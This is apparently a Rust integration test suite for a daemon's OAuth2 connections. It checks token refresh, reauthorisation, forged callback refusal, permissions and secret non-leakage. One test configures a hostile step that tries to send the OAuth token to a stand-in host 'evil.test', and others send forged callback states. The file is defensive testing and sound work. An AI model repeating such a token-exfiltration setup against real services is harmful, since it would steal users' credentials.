//! OAuth2 connections through the daemon, against a strict local provider
//! (PKCE required, refresh tokens rotated, a reused one revokes its whole
//! family): the authorization code flow through the API and the callback,
//! one refresh for many jobs, a refusal marked once, a forged `state`
//! refused and audited, a process killed during a refresh, and no token or
//! secret anywhere it should not be.

use std::time::Duration;

use http::{Method, StatusCode};
use serde_json::{Value, json};
use wrun_tests::oauth::OAuthServer;
use wrun_tests::{TestPki, assert_absent, canary};

use crate::crash::{WS, deploy, site};
use crate::support::{Api, Daemon, Site, bundle};

const CLIENT_ID: &str = "wrun-app";

/// A provider at `oauth.test` and the daemon environment that reaches it.
struct Provider {
    server: OAuthServer,
    secret: String,
    env: Vec<(String, String)>,
}

impl Provider {
    async fn new(site: &Site) -> Provider {
        // `evil.test` is another host a hostile step may be granted.
        let pki = TestPki::new(&["oauth.test", "evil.test"]);
        let ca = site.dir.join("oauth-ca.pem");
        std::fs::write(&ca, pki.ca_pem()).unwrap();
        let secret = canary("client-secret");
        let server = OAuthServer::start(&pki, CLIENT_ID, &secret).await;
        Provider {
            server,
            secret,
            env: vec![
                ("WRUN_CA_FILE".into(), ca.display().to_string()),
                ("WRUN_ALLOW_RANGES".into(), "127.0.0.0/8".into()),
                (
                    "WRUN_RESOLVE".into(),
                    "oauth.test=127.0.0.1,evil.test=127.0.0.1".into(),
                ),
            ],
        }
    }

    fn base(&self) -> String {
        format!("https://oauth.test:{}", self.server.port())
    }

    fn start(&self, site: &Site) -> Daemon {
        let env: Vec<(&str, &str)> = self
            .env
            .iter()
            .map(|(k, v)| (k.as_str(), v.as_str()))
            .collect();
        site.start_with(&env)
    }

    /// A recipe `me` whose one step calls the provider's `/api/me` with
    /// connection `api` (as `.auth(&secret)` does: a bearer placeholder).
    fn bundle(&self, site: &Site) -> std::path::PathBuf {
        let port = self.server.port();
        let text = format!(
            "[recipe]\nname = \"me\"\n\n[trigger]\nkind = \"manual\"\n\n[[steps]]\nname = \"call\"\ncomponent = \"components/hostile.wasm\"\naction = \"auth\"\ninput = {{ url = \"{}/api/me\", secret = \"api\" }}\n\n[steps.grants]\nnet = [\"oauth.test:{port}\"]\nsecrets = {{ api = \"api\" }}\nenv = [\"unused\"]\ntimeout = \"60s\"\n",
            self.base()
        );
        bundle(site, "me", "hostile.wasm", &text)
    }

    /// Adds connection `api` as an authorization-code client of this
    /// provider.
    async fn add_connection(&self, api: &mut Api, token: &str) -> Value {
        let r = api
            .put(
                &format!("/v1/workspaces/{WS}/connections/api/oauth2"),
                token,
                &json!({
                    "hosts": [format!("oauth.test:{}", self.server.port())],
                    "grant": "authorization_code",
                    "token_url": format!("{}/token", self.base()),
                    "authorize_url": format!("{}/authorize", self.base()),
                    "client_id": CLIENT_ID,
                    "client_secret": self.secret,
                    "scopes": ["read", "offline_access"],
                }),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.json);
        assert_eq!(r.json["oauth2"]["state"], "pending", "{}", r.json);
        r.json
    }

    /// Authorises connection `api` through the API, the provider and the
    /// daemon's callback; returns the callback's path and query.
    async fn authorize(&self, api: &mut Api, token: &str) -> String {
        let r = api
            .post(
                &format!("/v1/workspaces/{WS}/connections/api/authorize"),
                token,
                &json!({}),
            )
            .await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.json);
        let url = r.json["authorize_url"].as_str().unwrap();
        assert!(url.contains("code_challenge_method=S256"), "{url}");
        let location = self.server.authorize(url).await.unwrap();
        let callback = callback_path(&location);
        let r = api.send(Method::GET, &callback, None, None).await;
        assert_eq!(r.status, StatusCode::OK, "{}", r.json);
        assert_eq!(r.json["state"], "ready", "{}", r.json);
        callback
    }
}

/// The path and query of the daemon's callback in a provider redirect.
fn callback_path(location: &str) -> String {
    let at = location
        .find("/oauth/callback?")
        .unwrap_or_else(|| panic!("{location} is not the daemon's callback"));
    location[at..].to_string()
}

/// Starts `n` runs of recipe `me`; returns their job ids.
async fn run_many(api: &mut Api, token: &str, n: usize) -> Vec<String> {
    let mut jobs = Vec::new();
    for _ in 0..n {
        let r = api
            .post(
                &format!("/v1/workspaces/{WS}/recipes/me/runs"),
                token,
                &json!({ "environment": "prod", "input": {} }),
            )
            .await;
        assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.json);
        jobs.push(r.json["job"].as_str().unwrap().to_string());
    }
    jobs
}

/// The audit entries of `action`.
fn audited(site: &Site, action: &str) -> Vec<Value> {
    site.audit_entries()
        .into_iter()
        .filter(|e| e["action"] == action)
        .collect()
}

/// `wrun_oauth_refreshes_total{outcome}`.
async fn refreshes(api: &mut Api, outcome: &str) -> f64 {
    let r = api.send(Method::GET, "/metrics", None, None).await;
    let text = String::from_utf8_lossy(&r.raw).into_owned();
    let prefix = format!("wrun_oauth_refreshes_total{{outcome=\"{outcome}\"}} ");
    text.lines()
        .find_map(|l| l.strip_prefix(&prefix))
        .map_or(0.0, |v| v.trim().parse().unwrap())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_hundred_jobs_on_an_expired_token_refresh_it_once() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let bundle = provider.bundle(&site);
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    let mut responses = Vec::new();
    responses.push(provider.add_connection(&mut api, &token).await.to_string());
    deploy(&mut api, &token, "me", &bundle).await;

    // The first token lives two seconds; the refreshed ones an hour.
    provider.server.set_access_ttl(Duration::from_secs(2));
    provider.authorize(&mut api, &token).await;
    assert_eq!(provider.server.token_calls().authorization_code, 1);
    tokio::time::sleep(Duration::from_millis(1500)).await;
    provider.server.expire_access_tokens();
    provider.server.set_access_ttl(Duration::from_secs(3600));

    let jobs = run_many(&mut api, &token, 200).await;
    for job in &jobs {
        let detail = api.wait_job(WS, job, &token).await;
        assert_eq!(detail["state"], "succeeded", "{detail}");
        assert_eq!(detail["steps"][0]["output"]["status"], 200, "{detail}");
        responses.push(detail.to_string());
    }
    let calls = provider.server.token_calls();
    assert_eq!(
        calls.refresh_token, 1,
        "one refresh for 200 jobs: {calls:?}"
    );
    assert_eq!(calls.failed, 0, "{calls:?}");
    assert_eq!(provider.server.invalid_grant_count(), 0);
    assert_eq!(provider.server.api_calls(), (200, 0));
    assert_eq!(refreshes(&mut api, "refreshed").await, 1.0);
    assert_eq!(audited(&site, "connection.oauth.refresh").len(), 1);
    assert_eq!(audited(&site, "connection.oauth.authorized").len(), 1);

    // What the API says of the connection: its client and state, no value.
    let r = api
        .get(
            &format!("/v1/workspaces/{WS}/connections/api/oauth2"),
            &token,
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    assert_eq!(r.json["oauth2"]["state"], "ready", "{}", r.json);
    assert_eq!(r.json["oauth2"]["config"]["client_id"], CLIENT_ID);
    responses.push(r.json.to_string());
    let r = api
        .get(&format!("/v1/workspaces/{WS}/connections"), &token)
        .await;
    assert_eq!(r.json["connections"][0]["oauth2"], "ready", "{}", r.json);
    responses.push(r.json.to_string());

    // No token and no client secret anywhere at rest, in logs or answers.
    let mut needles = vec![provider.secret.clone()];
    needles.extend(provider.server.issued_access_tokens());
    needles.extend(provider.server.issued_refresh_tokens());
    let needles: Vec<&str> = needles.iter().map(String::as_str).collect();
    assert!(needles.len() >= 5, "{needles:?}");
    assert_absent(&site.db_bytes(), &needles, "the database and its WAL");
    assert_absent(&site.logs(), &needles, "the daemon's logs");
    assert_absent(
        responses.join("\n").as_bytes(),
        &needles,
        "API answers, job outputs and history",
    );
    assert_absent(
        site.audit_entries()
            .iter()
            .map(Value::to_string)
            .collect::<Vec<_>>()
            .join("\n")
            .as_bytes(),
        &needles,
        "the audit log",
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_refused_refresh_marks_the_connection_once_until_it_is_authorised_again() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let bundle = provider.bundle(&site);
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    provider.add_connection(&mut api, &token).await;
    deploy(&mut api, &token, "me", &bundle).await;

    // Never authorised: a job says what to do.
    let jobs = run_many(&mut api, &token, 1).await;
    let detail = api.wait_job(WS, &jobs[0], &token).await;
    assert_eq!(detail["state"], "failed", "{detail}");
    let error = detail.to_string();
    assert!(error.contains("has not been authorised yet"), "{error}");
    assert_eq!(provider.server.token_requests_started(), 0);

    provider.server.set_access_ttl(Duration::from_secs(2));
    provider.authorize(&mut api, &token).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;
    // The user withdraws consent at the provider.
    provider.server.revoke_all();
    let jobs = run_many(&mut api, &token, 20).await;
    for job in &jobs {
        let detail = api.wait_job(WS, job, &token).await;
        assert_eq!(detail["state"], "failed", "{detail}");
        let error = detail.to_string();
        assert!(
            error.contains("needs to be authorised again") && error.contains("invalid_grant"),
            "{error}"
        );
    }
    // One token request for all of them, then nothing: no retry loop.
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(provider.server.token_calls().refresh_token, 0);
    assert_eq!(
        provider.server.token_requests_started(),
        2,
        "the code and one refresh"
    );
    assert_eq!(refreshes(&mut api, "needs_reauth").await, 1.0);
    let marked = audited(&site, "connection.oauth.needs_reauth");
    assert_eq!(marked.len(), 1, "{marked:?}");
    assert_eq!(marked[0]["actor"], "system");
    let r = api
        .get(
            &format!("/v1/workspaces/{WS}/connections/api/oauth2"),
            &token,
        )
        .await;
    assert_eq!(r.json["oauth2"]["state"], "needs_reauth", "{}", r.json);

    // Authorised again, it works again.
    provider.server.set_access_ttl(Duration::from_secs(3600));
    provider.authorize(&mut api, &token).await;
    let jobs = run_many(&mut api, &token, 3).await;
    for job in &jobs {
        let detail = api.wait_job(WS, job, &token).await;
        assert_eq!(detail["state"], "succeeded", "{detail}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_callback_with_a_forged_or_spent_state_is_refused_and_audited() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    provider.add_connection(&mut api, &token).await;

    let forged = "/oauth/callback?code=stolen-code&state=forged-state-0123456789";
    let r = api.send(Method::GET, forged, None, None).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.json);
    assert_eq!(r.json["error"]["code"], "invalid_state", "{}", r.json);
    let r = api
        .send(Method::GET, "/oauth/callback?code=x", None, None)
        .await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.json);

    // The real flow works once; its redirect replayed is refused.
    let callback = provider.authorize(&mut api, &token).await;
    let r = api.send(Method::GET, &callback, None, None).await;
    assert_eq!(r.status, StatusCode::BAD_REQUEST, "{}", r.json);
    assert_eq!(r.json["error"]["code"], "invalid_state", "{}", r.json);
    assert_eq!(provider.server.token_calls().authorization_code, 1);

    let refused: Vec<Value> = audited(&site, "connection.oauth.callback")
        .into_iter()
        .filter(|e| e["outcome"] == "denied")
        .collect();
    assert_eq!(refused.len(), 2, "{refused:?}");
    assert_eq!(refused[0]["source"], "127.0.0.1");
    assert!(
        !refused[0].to_string().contains("forged-state"),
        "the state is not kept"
    );
    assert_eq!(audited(&site, "connection.oauth.authorize").len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn guessing_states_is_limited_and_does_not_fill_the_audit_log() {
    let site = Site::new("[limits]\nfailures_per_second = 1\nfailure_burst = 3\n");
    let daemon = site.start();
    let mut api = daemon.client().await;
    let mut statuses = Vec::new();
    for i in 0..20 {
        let path = format!("/oauth/callback?code=x&state=guess-{i:04}-0123456789");
        statuses.push(api.send(Method::GET, &path, None, None).await.status);
    }
    assert!(
        statuses[..3].iter().all(|s| *s == StatusCode::BAD_REQUEST),
        "{statuses:?}"
    );
    assert!(
        statuses[4..]
            .iter()
            .all(|s| *s == StatusCode::TOO_MANY_REQUESTS),
        "{statuses:?}"
    );
    let audited = audited(&site, "connection.oauth.callback").len();
    assert!(
        (3..=4).contains(&audited),
        "{audited} refusals audited for 20 guesses"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_daemon_killed_during_a_refresh_leaves_the_connection_marked_once() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let bundle = provider.bundle(&site);
    let mut daemon = provider.start(&site);
    let mut api = daemon.client().await;
    provider.add_connection(&mut api, &token).await;
    deploy(&mut api, &token, "me", &bundle).await;
    provider.server.set_access_ttl(Duration::from_secs(2));
    provider.authorize(&mut api, &token).await;
    tokio::time::sleep(Duration::from_millis(1500)).await;

    // The provider rotates the refresh token, then the daemon dies before
    // it hears the answer.
    provider.server.set_token_delay(Duration::from_secs(30));
    run_many(&mut api, &token, 1).await;
    for _ in 0..200 {
        if provider.server.token_requests_started() == 2 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    assert_eq!(provider.server.token_requests_started(), 2);
    daemon.kill9();
    provider.server.set_token_delay(Duration::ZERO);

    // The restarted daemon resumes the job: its refresh (after the dead
    // holder's lease) presents the rotated token, the provider revokes the
    // family, and the connection is marked once.
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    let jobs = run_many(&mut api, &token, 3).await;
    for job in &jobs {
        let detail = api.wait_job(WS, job, &token).await;
        assert_eq!(detail["state"], "failed", "{detail}");
        assert!(
            detail.to_string().contains("needs to be authorised again"),
            "{detail}"
        );
    }
    tokio::time::sleep(Duration::from_millis(500)).await;
    assert_eq!(provider.server.family_revocations(), 1);
    assert_eq!(provider.server.token_requests_started(), 3, "no retry loop");
    assert_eq!(audited(&site, "connection.oauth.needs_reauth").len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_client_credentials_connection_with_a_wrong_secret_says_so_when_added() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    let wrong = canary("wrong-secret");
    let body = |secret: &str| {
        json!({
            "hosts": [format!("oauth.test:{}", provider.server.port())],
            "grant": "client_credentials",
            "token_url": format!("{}/token", provider.base()),
            "client_id": CLIENT_ID,
            "client_secret": secret,
        })
    };
    let path = format!("/v1/workspaces/{WS}/connections/cc/oauth2");
    let r = api.put(&path, &token, &body(&wrong)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    assert_eq!(r.json["oauth2"]["state"], "needs_reauth", "{}", r.json);
    let error = r.json["error"].as_str().unwrap_or_default();
    assert!(
        error.contains("invalid_client") && error.contains("--replace"),
        "{error}"
    );
    assert!(!r.raw.windows(wrong.len()).any(|w| w == wrong.as_bytes()));
    // Fixed, it has a token at once.
    let r = api.put(&path, &token, &body(&provider.secret)).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    assert_eq!(r.json["oauth2"]["state"], "ready", "{}", r.json);
    assert!(r.json.get("error").is_none(), "{}", r.json);
    assert_eq!(provider.server.token_calls().client_credentials, 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_step_cannot_send_the_oauth2_token_to_another_granted_host() {
    let (site, token) = site("");
    let provider = Provider::new(&site).await;
    let port = provider.server.port();
    // Granted both hosts; the connection is bound to the provider only.
    let text = format!(
        "[recipe]\nname = \"leak\"\n\n[trigger]\nkind = \"manual\"\n\n[[steps]]\nname = \"call\"\ncomponent = \"components/hostile.wasm\"\naction = \"auth\"\ninput = {{ url = \"https://evil.test:{port}/api/me\", secret = \"api\" }}\n\n[steps.grants]\nnet = [\"oauth.test:{port}\", \"evil.test:{port}\"]\nsecrets = {{ api = \"api\" }}\nenv = [\"unused\"]\n"
    );
    let leak = bundle(&site, "leak", "hostile.wasm", &text);
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    provider.add_connection(&mut api, &token).await;
    provider.authorize(&mut api, &token).await;
    deploy(&mut api, &token, "leak", &leak).await;
    let r = api
        .post(
            &format!("/v1/workspaces/{WS}/recipes/leak/runs"),
            &token,
            &json!({ "environment": "prod", "input": {} }),
        )
        .await;
    assert_eq!(r.status, StatusCode::ACCEPTED, "{}", r.json);
    let job = r.json["job"].as_str().unwrap().to_string();
    let detail = api.wait_job(WS, &job, &token).await;
    assert_eq!(detail["state"], "failed", "{detail}");
    assert!(detail.to_string().contains("evil.test"), "{detail}");
    // The request never left: the provider's API saw nothing at all.
    assert_eq!(provider.server.api_calls(), (0, 0));
    let issued = provider.server.issued_access_tokens();
    let needles: Vec<&str> = issued.iter().map(String::as_str).collect();
    assert_absent(detail.to_string().as_bytes(), &needles, "the job's history");
    assert!(
        site.audit_entries()
            .iter()
            .any(|e| e["action"] == "secret.misuse"),
        "the attempt is audited"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_oauth2_routes_need_the_connections_permission() {
    let (site, admin) = site("");
    let reader = site.token(WS, "alice", "*:read");
    site.member("team-b", "bob", "admin");
    let other = site.token("team-b", "bob", "*:write");
    let provider = Provider::new(&site).await;
    let daemon = provider.start(&site);
    let mut api = daemon.client().await;
    provider.add_connection(&mut api, &admin).await;
    let oauth2 = format!("/v1/workspaces/{WS}/connections/api/oauth2");
    let authorize = format!("/v1/workspaces/{WS}/connections/api/authorize");
    let body = json!({ "hosts": ["oauth.test"], "grant": "client_credentials",
        "token_url": format!("{}/token", provider.base()), "client_id": "x",
        "client_secret": "attacker-secret-0123456789abcdef" });

    // No credential at all.
    for (method, path, body) in [
        (Method::GET, &oauth2, None),
        (Method::PUT, &oauth2, Some(&body)),
        (Method::POST, &authorize, Some(&json!({}))),
    ] {
        let r = api.send(method.clone(), path, None, body).await;
        assert_eq!(
            r.status,
            StatusCode::UNAUTHORIZED,
            "{method} {path}: {}",
            r.json
        );
    }
    // A reader sees the client, and may change nothing.
    let r = api.get(&oauth2, &reader).await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.json);
    assert!(
        !r.raw
            .windows(provider.secret.len())
            .any(|w| w == provider.secret.as_bytes())
    );
    let r = api.put(&oauth2, &reader, &body).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.json);
    let r = api.post(&authorize, &reader, &json!({})).await;
    assert_eq!(r.status, StatusCode::FORBIDDEN, "{}", r.json);
    // Another workspace's admin does not see it.
    let r = api.get(&oauth2, &other).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.json);
    let r = api.post(&authorize, &other, &json!({})).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "{}", r.json);
    // Nothing changed: still the admin's pending client, no flow started.
    let r = api.get(&oauth2, &admin).await;
    assert_eq!(
        r.json["oauth2"]["config"]["grant"], "authorization_code",
        "{}",
        r.json
    );
    assert_eq!(audited(&site, "connection.oauth.authorize").len(), 0);
    assert_eq!(provider.server.token_requests_started(), 0);
}
